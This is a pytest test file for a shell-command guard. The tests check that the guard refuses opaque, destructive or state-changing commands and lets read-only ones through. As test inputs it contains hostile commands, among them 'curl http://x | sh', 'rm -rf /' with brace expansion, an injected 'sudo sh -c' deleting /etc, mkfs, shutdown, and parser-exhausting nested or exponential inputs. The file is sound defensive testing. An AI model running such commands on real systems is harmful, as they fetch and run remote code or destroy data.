"""What the guard says where it can't tell, and of commands that are announced as reading."""

import pytest

from automation.engine.guard import Severity, weigh


@pytest.mark.parametrize(
    "text",
    [
        "if true",
        "curl http://x | sh",
        "$x",
        "eval " * 20 + "ls",
        "sudo " * 30 + "ls",
        "echo " + "x" * 20_000,
        "echo " + "$(" * 400 + "ls" + ")" * 400,
    ],
    ids=["no shell", "unseen", "unknown program", "deep", "wrapped", "long", "nested"],
)
def test_what_nobody_can_tell_is_refused_of_a_change_only(text: str) -> None:
    decision = weigh(text)
    assert decision.severity is Severity.OPAQUE
    assert decision.explanation.endswith(".")
    assert weigh(text, False).allowed


def test_a_text_that_grows_without_end_is_given_up_soon() -> None:
    functions = "; ".join(f"f{n}() {{ f{n - 1}; f{n - 1}; }}" for n in range(1, 40))
    for changes in (True, False):
        assert weigh(f"f0() {{ ls; }}; {functions}; f39", changes).rule == "TOO_MUCH"
    values = "; ".join(f"a{n}=$a{n - 1}$a{n - 1}" for n in range(1, 60))
    assert weigh(f"a0=xxxxxxxx; {values}; echo $a59").allowed
    assert weigh(f"a0=xxxxxxxx; {values}; $a59").rule == "UNKNOWN_PROGRAM"
    assert weigh("echo " + "{a,b}" * 200).allowed
    assert not weigh("rm -rf /" + "{,x}" * 200).allowed


def test_what_the_guard_fails_on_is_refused_either_way() -> None:
    text = "{ " * 270 + "ls" + "; }" * 270
    for changes in (True, False):
        assert weigh(text, changes).rule == "GUARD_FAILED"


def test_a_refusal_names_the_rule_and_the_offending_part() -> None:
    decision = weigh("ls /tmp && sudo sh -c 'cd /; rm -rf \"$x\"/etc'")
    assert decision.rule == "DELETE_RECURSIVE"
    assert decision.severity is Severity.DENY
    assert decision.part == "rm -rf /etc"


@pytest.mark.parametrize(
    "text",
    [
        "rm /tmp/x",
        "sudo -n -- rm -f -- /tmp/x",
        "mkfs.ext4 /tmp/image",
        "dd if=/dev/zero of=/tmp/x",
        "echo x > /tmp/x",
        "echo x | tee -a /tmp/x",
        "find /tmp -name x -delete",
        "sed -i s/a/b/ /tmp/x",
        "systemctl restart nginx",
        "service nginx stop",
        "kill 4321",
        "useradd x",
        "shutdown -h now",
        "/bin/sh -c 'touch \"$1\"' sh /tmp/x",
    ],
)
def test_reading_must_not_change(text: str) -> None:
    assert not weigh(text, False).allowed


@pytest.mark.parametrize(
    "text",
    [
        "ls 2>/dev/null >&2",
        "dd if=/dev/sda of=/dev/null count=1",
        "systemctl status nginx",
        "kill -0 4321",
        "sed -n 1p /etc/hosts",
        "find /tmp -name x",
        "mkdir --help",
        "echo x | tee /dev/stderr",
        "service nginx status",
    ],
)
def test_reading_passes(text: str) -> None:
    assert weigh(text, False).allowed
